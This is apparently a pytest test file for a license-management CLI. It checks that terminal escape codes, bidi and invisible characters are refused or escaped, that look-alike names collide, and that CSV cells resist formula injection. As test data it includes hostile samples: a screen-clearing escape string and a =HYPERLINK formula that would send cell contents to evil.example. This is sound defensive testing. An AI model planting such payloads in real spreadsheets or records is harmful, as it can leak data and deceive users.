"""Text that reaches a terminal or a spreadsheet (issue 7, items 11 and 12).

- Control, format and invisible characters are refused in every name, PO and note.
- Names and POs compare after NFKC normalisation and case folding, so look-alikes clash.
- Text already stored (written by an older licensectl) is escaped wherever it is shown:
  tables, CSV, status and error lines; JSON stays exact but escapes it as \\u.
- CSV cells that a spreadsheet would run as a formula get a leading `'`, unless --raw.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from conftest import Cli
from sqlalchemy import create_engine, text

from licensectl.store.url import normalize_db_url

#: One of each kind the input check must refuse (the report named the first two).
UNSAFE = {
    "C1 CSI": "\x9b",
    "bidi override": "\u202e",
    "bidi isolate": "\u2066",
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "BOM": "\ufeff",
    "tag character": "\U000e0041",
    "private use": "\ue000",
    "unassigned": "\u0378",
    "Hangul filler": "\u3164",
    "variation selector": "\ufe0f",
    "ESC": "\x1b",
    "NEL": "\x85",
    "unit separator": "\x1f",
}
LICENSE_ID = "9b0f3d1e-4b9f-4c49-9d52-8f0a0c3d9e11"
#: What must never reach a terminal raw.
RAW = ("\x1b", "\x9b", "\u202e", "\u2028", "\u200b")


def execute(db: str | None, statement: str, **params: Any) -> None:
    """Write to the store behind licensectl's back, as an older version could have."""
    assert db is not None
    engine = create_engine(normalize_db_url(db))
    try:
        with engine.begin() as conn:
            conn.execute(text(statement), params)
    finally:
        engine.dispose()


def assert_no_raw(*texts: str) -> None:
    for t in texts:
        for char in RAW:
            assert char not in t, f"raw {char!r} in {t!r}"


@pytest.mark.parametrize("char", UNSAFE.values(), ids=UNSAFE.keys())
def test_unsafe_characters_are_refused_in_every_name_po_and_note(cli: Cli, char: str) -> None:
    cli.ok("partner", "add", "Acme")
    bad = f"Bad{char}Name"
    for args in (
        ("partner", "add", bad),
        ("customer", "add", bad),
        ("license", "add", "--po", bad, "--type", "core", "--devices", "1"),
        ("license", "add", "--po", "PO-1", "--type", "core", "--devices", "1", "--note", bad),
        ("smartserver", "request", "--install-code", bad, "--license", LICENSE_ID),
        ("smartserver", "request", "--install-code", "X", "--name", bad, "--license", LICENSE_ID),
    ):
        result = cli.fails(2, *args)
        assert "control characters or invisible ones" in result.stderr, result.stderr
        assert_no_raw(result.stderr)
    csv_file = f"partner,purchase_order,po_line,type,devices,customer\nAcme,PO-2,1,core,1,{bad}\n"
    result = cli.fails(7, "-o", "json", "import", "-", input=csv_file)
    errors = json.loads(result.stdout)["errors"]
    assert [(e["row"], e["field"]) for e in errors] == [(2, "customer")]
    assert_no_raw(result.stdout, result.stderr)
    line = json.dumps({"op": "customer.add", "name": bad})
    result = cli.fails(2, "batch", "-", input=line + "\n")
    assert json.loads(result.stdout)["ok"] is False
    assert cli.json("partner", "list")[0]["name"] == "Acme"
    assert len(cli.json("partner", "list")) == 1
    assert cli.json("customer", "list") == []
    assert cli.json("license", "list") == []


def test_whitespace_is_tidied_not_refused(cli: Cli) -> None:
    """Tabs and line breaks (a quoted CSV cell) become one space, as before."""
    assert cli.ok("partner", "add", " Acme\t\tIntegrators\r\n").stdout == "Acme Integrators\n"
    cli.ok("customer", "add", "Gebäude\u00a01")  # a no-break space is a space
    assert [c["name"] for c in cli.json("customer", "list")] == ["Gebäude 1"]


def test_look_alike_names_are_one_name(cli: Cli) -> None:
    cli.ok("partner", "add", "Acme Integrators")
    for twin in ("\uff21cme Integrators", "ACME INTEGRATORS", "Acme\u3000Integrators"):
        result = cli.fails(4, "partner", "add", twin)
        assert "already exists" in result.stderr
    cli.fails(2, "partner", "add", "Acme\u200bIntegrators")
    assert len(cli.json("partner", "list")) == 1
    # the fullwidth spelling reaches the partner too
    cli.ok(
        "customer", "add", "Project \ufb01ve", "--partner", "\uff41\uff43\uff4d\uff45 integrators"
    )
    cli.fails(4, "customer", "add", "PROJECT FIVE")
    cli.ok("customer", "add", "Site \u2160")  # Roman numeral one
    cli.fails(4, "customer", "add", "site i")
    lic = cli.ok("license", "add", "--po", "PO-1", "--type", "core", "--devices", "1").stdout
    result = cli.fails(
        4, "license", "add", "--po", "\uff30\uff2f-\uff11", "--type", "core", "--devices", "1"
    )
    assert "PO-1" in result.stderr or lic.strip() in result.stderr
    found = cli.json("search", "po", "\uff50\uff4f-1", "--exact")
    assert [x["license_id"] for x in found] == [lic.strip()]
    assert [c["name"] for c in cli.json("search", "customer", "\uff26\uff29\uff36\uff25")] == [
        "Project \ufb01ve"
    ]


def test_names_that_grow_when_normalised_still_fit(cli: Cli) -> None:
    """`ß` folds to `ss`: the key column has the same limit as the name (PostgreSQL
    refused such a name with an internal error)."""
    cli.ok("partner", "add", "Acme")
    cli.ok("customer", "add", "\u00df" * 100)
    result = cli.fails(2, "customer", "add", "\u00df" * 150)
    assert "once normalised" in result.stderr
    cli.fails(2, "license", "add", "--po", "\ufdfa" * 10, "--type", "core", "--devices", "1")
    assert len(cli.json("customer", "list")) == 1


def test_stored_unsafe_text_is_escaped_on_every_output(cli: Cli, tmp_path: Path) -> None:
    cli.ok("partner", "add", "Acme")
    customer_id = cli.ok("customer", "add", "Site").stdout.strip()
    lic = cli.ok("license", "add", "--po", "PO-1", "--type", "core", "--devices", "1").stdout
    lic = lic.strip()
    cli.ok("transfer", lic, "--to", "Site", "--yes")
    evil = "Evil\x1b[2J\x9b31m\u202eKCAB\u2028\u200bend"
    execute(cli.db, "UPDATE customer SET name = :n", n=evil)
    execute(cli.db, "UPDATE license SET purchase_order = :n", n=evil[:60])
    for args in (
        ("customer", "list"),
        ("customer", "show", customer_id),
        ("license", "list"),
        ("license", "show", lic),
        ("license", "history", lic),
        ("search", "customer", "site"),
        ("search", "po", "po-1"),
        ("-o", "csv", "customer", "list"),
        ("-o", "csv", "license", "list"),
        ("-o", "wide", "license", "list"),
        ("export",),
        ("export", "--format", "jsonl"),
        ("-o", "jsonl", "license", "list"),
    ):
        result = cli.ok(*args)
        assert_no_raw(result.stdout, result.stderr)
    assert "\\x9b" in cli.ok("customer", "list").stdout
    assert "\\u202e" in cli.ok("-o", "csv", "customer", "list").stdout
    # JSON: escaped as \u in the text, exactly the stored value once parsed
    raw_json = cli.ok("-o", "json", "customer", "list").stdout
    assert_no_raw(raw_json)
    assert json.loads(raw_json)[0]["name"] == evil
    lines = cli.ok("export", "--format", "jsonl").stdout.splitlines()
    assert json.loads(lines[-1])["purchase_order"] == evil[:60]
    # --raw: CSV cells exactly as stored, for the scripts that need them
    rows = list(csv.reader(io.StringIO(cli.ok("--raw", "-o", "csv", "customer", "list").stdout)))
    assert rows[1][rows[0].index("name")] == evil
    # status and error lines, and the paths they echo
    odd = tmp_path / "out\u202e\x9b.csv"
    result = cli.ok("export", "--out", str(odd))
    assert "Exported" in result.stderr
    assert_no_raw(result.stderr)
    result = cli.fails(2, "import", str(tmp_path / "no\x9bsuch\u202e.csv"))
    assert_no_raw(result.stderr)
    assert "\\x9b" in result.stderr


FORMULAS = {
    "=1+2": "'=1+2",
    "+SUM(A1:A9)": "'+SUM(A1:A9)",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "-5": "-5",  # a number is a number, not a formula
    "+1.5e3": "+1.5e3",
    "PO-7": "PO-7",
}


def test_csv_cells_never_become_formulas(cli: Cli) -> None:
    cli.ok("partner", "add", "Acme")
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    cli.ok("customer", "add", hyperlink)
    for po in FORMULAS:
        cli.ok("license", "add", "--po", po, "--type", "capacity", "--devices", "200")
    first = cli.json("license", "list")[0]["license_id"]
    cli.ok("transfer", first, "--to", hyperlink, "--yes")

    def table(*args: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(cli.ok(*args).stdout)))

    for rows in (table("export"), table("-o", "csv", "license", "list")):
        pos = [r["purchase_order"] for r in rows if r["parent_id"] == ""]
        assert pos == list(FORMULAS.values())
        assert {r["devices"] for r in rows} == {"200"}
        assert all(not r["partner"].startswith("'") for r in rows)
    customers = table("-o", "csv", "customer", "list")
    assert customers[0]["name"] == "'" + hyperlink
    # --raw keeps the bytes as stored; JSON is always exact
    raw = table("--raw", "-o", "csv", "license", "list")
    assert [r["purchase_order"] for r in raw if r["parent_id"] == ""] == list(FORMULAS)
    assert table("export", "--raw")[0]["purchase_order"] == "=1+2"
    assert table("--raw", "-o", "csv", "customer", "list")[0]["name"] == hyperlink
    assert [x["purchase_order"] for x in cli.json("license", "list")][: len(FORMULAS)] == list(
        FORMULAS
    )
    jsonl = cli.ok("export", "--format", "jsonl").stdout.splitlines()
    assert json.loads(jsonl[1])["purchase_order"] == "+SUM(A1:A9)"


#: Text that Rich would read as markup or emoji codes if it were handed over as markup.
MARKUP = "Shop [/b] [red]x[/red] :thumbs_up: [link=https://evil.example]y[/link]"


def test_names_and_notes_are_shown_as_typed_never_as_markup_or_emoji(cli: Cli) -> None:
    """Brackets and `:emoji:` codes are plain text in a name or note: a table, a title,
    a record, a tree, a status or an error line shows them as typed. (A closing tag in
    a customer's name made `customer show` fail with an internal error; emoji codes
    became pictures in tables.)"""
    cli.ok("partner", "add", "Acme :smile:")
    customer = cli.ok("customer", "add", MARKUP).stdout.strip()
    lic = cli.json("license", "add", "--po", "PO-[b]1", "--type", "core", "--devices", "1")
    lid = lic["license_id"]
    cli.ok("license", "note", lid, MARKUP)
    moved = cli.json("transfer", lid, "--to", customer, "--yes")
    shown = [
        cli.ok("customer", "show", MARKUP).stdout,  # title, record, licenses table
        cli.ok("customer", "list").stdout,
        cli.ok("partner", "list").stdout,
        cli.ok("license", "show", lid).stdout,
        cli.ok("license", "history", moved["transferred"]["license_id"]).stdout,
        cli.ok("search", "customer", "shop").stdout,
        cli.ok("search", "po", "po-[b]").stdout,
    ]
    for out in shown:
        assert "\N{THUMBS UP SIGN}" not in out and "\N{SMILING FACE WITH OPEN MOUTH}" not in out
        assert "\x1b" not in out
    assert f"Customer {MARKUP}" in shown[0]
    for out in (shown[0], shown[1], shown[5]):
        assert MARKUP in out, out
    assert "Acme :smile:" in shown[2] and "PO-[b]1" in shown[6]
    missing = cli.fails(3, "customer", "show", "Nobody [/b] :smile:")
    assert "'Nobody [/b] :smile:'" in missing.stderr
